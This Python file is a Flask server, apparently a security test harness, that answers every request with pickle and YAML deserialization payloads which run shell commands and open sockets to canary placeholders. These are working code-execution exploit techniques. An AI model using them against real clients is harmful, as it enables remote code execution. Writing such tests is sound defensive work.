"""Hands out objects that act when they are opened."""

import base64
import os
import pickle
import socket
import struct
import subprocess
import threading

from flask import Flask, Response


class Opened:
    def __reduce__(self):
        return subprocess.getoutput, ("touch CANARY_FILE.opened; echo mine > CANARY_FILE",)


class Connected:
    def __reduce__(self):
        return socket.create_connection, (("127.0.0.1", int("CANARY_PORT")),)


PAYLOAD = pickle.dumps([Opened(), Connected()])
YAML = b"!!python/object/apply:os.system ['touch CANARY_FILE.yaml']"


def own_sockets():
    for number in range(3, 256):
        try:
            if os.readlink(f"/proc/self/fd/{number}").startswith("socket"):
                yield number
        except OSError:
            try:
                socket.socket(fileno=os.dup(number)).close()
                yield number
            except OSError:
                pass


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        response = Response(PAYLOAD + YAML, content_type="application/python-pickle")
        response.headers["X-Pickle"] = base64.b64encode(PAYLOAD).decode()
        response.set_cookie("session", base64.b64encode(PAYLOAD).decode()[:3000])
        threading.Timer(0.05, send).start()
        return response

    return app


def send():
    for number in own_sockets():
        try:
            os.write(number, struct.pack("!II", len(PAYLOAD), 0) + PAYLOAD)
        except OSError:
            pass
